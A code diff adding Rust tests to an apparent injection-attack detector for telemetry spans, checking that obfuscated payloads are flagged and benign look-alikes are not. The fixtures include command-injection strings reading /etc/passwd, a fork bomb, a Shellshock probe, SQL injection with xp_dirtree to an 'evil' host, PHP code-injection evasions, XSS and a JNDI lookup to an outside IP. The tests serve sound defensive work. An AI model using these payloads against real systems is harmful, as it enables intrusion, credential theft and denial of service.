@@ -151,6 +151,90 @@ fn hard_negatives() {
 }
 
 #[test]
+fn evasions_and_new_syntax_classes() {
+    let d = Detector::with_default_rules().unwrap();
+    let cases: &[(Family, &str)] = &[
+        // Shell: empty substitutions and unset variables inside words, quoting, flags.
+        (Family::Cmdi, r"x;c$u\at /et$u\c/pas$u\swd"),
+        (Family::Cmdi, "una$$me -a"),
+        (Family::Cmdi, "ping`` 127.0.0.1"),
+        (Family::Cmdi, "kill '-'9"),
+        (Family::Cmdi, "() { :; }; echo vulnerable"),
+        (Family::Cmdi, ".(){ .|.& };."),
+        (Family::Cmdi, "a=/etc&&b=/passwd&&c=cat&&$c $a$b"),
+        (Family::Cmdi, "dd if=/etc/passwd of=/tmp/x"),
+        (Family::Cmdi, "find /etc -name passwd -exec cat {} ;"),
+        (Family::Cmdi, "for /f %variable in ('command') do command"),
+        (Family::Cmdi, "if not %1 == \"\" ("),
+        (Family::Cmdi, "x&bcdboot /r file.txt"),
+        (Family::Cmdi, "alias -p x=id"),
+        // SQL statements, catalogs and casts.
+        (Family::Sqli, "x;INSERT INTO users (name) VALUES"),
+        (Family::Sqli, "from `db`.`users` limit 1"),
+        (Family::Sqli, "1; exec xp_dirtree '\\\\evil\\a'"),
+        (Family::Sqli, "x; SET @a = 0x41"),
+        (Family::Sqli, "1;drop"),
+        (Family::Sqli, "id=(select"),
+        (Family::Sqli, "FROM t WHERE name=\"x\""),
+        (Family::Sqli, "OR '{\"a\":\"b\"}' ? 'a'"),
+        // Java: serialization header in short base64, JSP upload, gadget names.
+        (Family::Jndi, "rO0ABQ"),
+        (Family::Jndi, "shell.jspx."),
+        // Code: PHP calls hidden by comments, variable functions, JS loops, node-serialize.
+        (Family::CodeInjection, "exec#comment\n (ls)"),
+        (Family::CodeInjection, "$_x[@5]/*a*/[@d] ()"),
+        (Family::CodeInjection, "while(!undefined)"),
+        (
+            Family::CodeInjection,
+            "\\u0058\\u0079QkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK",
+        ),
+        (Family::CodeInjection, "shell.php..."),
+        (Family::CodeInjection, "array_diff ("),
+        (Family::CodeInjection, "checkdate/*x*/()"),
+        (Family::CodeInjection, "(sy.(st).em)('uname');"),
+        (Family::CodeInjection, "(/* c */system)(ls);"),
+        // XSS for a 7-bit decoder.
+        (Family::Xss, "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}"),
+        // Restricted files.
+        (Family::PathTraversal, "/wp-content/debug.log"),
+        (Family::PathTraversal, "/backup.sql.zip"),
+    ];
+    for (fam, v) in cases {
+        assert!(
+            families(&d, v).contains(fam),
+            "missed {fam:?} in {v:?}: {:?}",
+            families(&d, v)
+        );
+    }
+    // Near misses of the same classes.
+    for v in [
+        "Please select one (select a size)",
+        "Lunch; update me later",
+        "trade union all members",
+        "costs $5 or us$10",
+        "echo $HOME",
+        "for each item in (list) do it",
+        "if a == b then c",
+        "report.pdf",
+        "/index.php",
+        "/logs/app.log",
+        "Products",
+        "¼ cup sugar, ½ tsp salt",
+        "from home where name is ok",
+        "see (the list)(1) below",
+        "is_active (optional)",
+        "my_function name",
+        "kitchen data when from temp Order by Friday for delivery on Monday.",
+    ] {
+        assert!(
+            families(&d, v).is_empty(),
+            "false positive on {v:?}: {:?}",
+            families(&d, v)
+        );
+    }
+}
+
+#[test]
 fn inspect_reports_span_ids_and_minimized_evidence() {
     let d = Detector::with_default_rules().unwrap();
     let t = TenantId::new("acme").unwrap();
@@ -199,6 +283,44 @@ fn inspect_reports_span_ids_and_minimized_evidence() {
         "{ocsf}"
     );
     assert!(ocsf.contains("07070707070707070707070707070707"));
+}
+
+#[test]
+fn a_value_repeated_across_spans_is_reported_on_each() {
+    // Values are scanned once per batch and the result reused: every span that carries
+    // the value still gets its own finding, and the same value as a name or in another
+    // attribute is judged on its own.
+    let d = Detector::with_default_rules().unwrap();
+    let t = TenantId::new("acme").unwrap();
+    let ua = "Mozilla/5.0 ${jndi:ldap://203.0.113.7/a}";
+    let spans = (1..=3u8)
+        .map(|i| {
+            server(
+                i,
+                i,
+                vec![
+                    kv("url.path", "/search"),
+                    kv("user_agent.original", ua),
+                    kv("url.query", "q=long+clean+search+words"),
+                ],
+            )
+        })
+        .collect();
+    let findings = d.inspect(&t, &[batch("shop", spans)], 1);
+    let mut spans_hit: Vec<String> = findings
+        .iter()
+        .filter(|f| f.family == Family::Jndi)
+        .filter_map(|f| f.evidences[0].span_id.map(|s| s.to_hex()))
+        .collect();
+    spans_hit.sort();
+    spans_hit.dedup();
+    assert_eq!(spans_hit.len(), 3, "{findings:?}");
+    assert!(
+        findings
+            .iter()
+            .all(|f| f.evidences[0].attribute == "user_agent.original"),
+        "{findings:?}"
+    );
 }
 
 #[test]
